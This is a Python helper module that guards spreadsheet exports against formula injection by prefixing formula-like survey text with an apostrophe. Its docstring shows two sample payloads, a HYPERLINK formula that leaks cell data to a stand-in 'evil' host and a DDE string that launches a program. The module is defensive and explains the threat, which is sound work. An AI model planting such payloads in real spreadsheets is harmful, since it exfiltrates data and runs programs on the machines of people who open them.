"""Text that leaves the app into spreadsheets, neutralised against formula injection.

Why: free-text survey answers (comments) and imported labels go back out in the consultant
workbook. A cell whose text starts with = + - @ (or a TAB/CR that some programs strip before
parsing) is run as a formula by Excel or LibreOffice when typed, pasted or re-saved — e.g.
`=HYPERLINK("http://evil/?"&A1, "클릭")` leaks data, `+cmd|' /C calc'!A0` runs programs (DDE).
Prefixing a single quote makes the cell plain text in every spreadsheet program, and the reader
still sees the words the respondent wrote. Numbers are never touched: only `str` values.

Use `neutralize_formula(value)` on every text cell written by openpyxl or xlsxwriter (and CSV).
With xlsxwriter, also write text with `write_string` so a leading '=' is never parsed.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NEUTRAL_PREFIX = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula (after stripping leading spaces)."""
    return text.lstrip(" \u3000").startswith(FORMULA_STARTS)


def neutralize_formula(value: Any) -> Any:
    """The value to write into a spreadsheet cell: formula-like text gets a leading apostrophe.

    Non-strings (numbers, dates, None) are returned unchanged, so statistics stay numeric.
    A plain negative number written as text ("-3") is also prefixed: it is text in our data.
    """
    if not isinstance(value, str) or not value:
        return value
    if is_formula_like(value):
        return _NEUTRAL_PREFIX + value
    return value
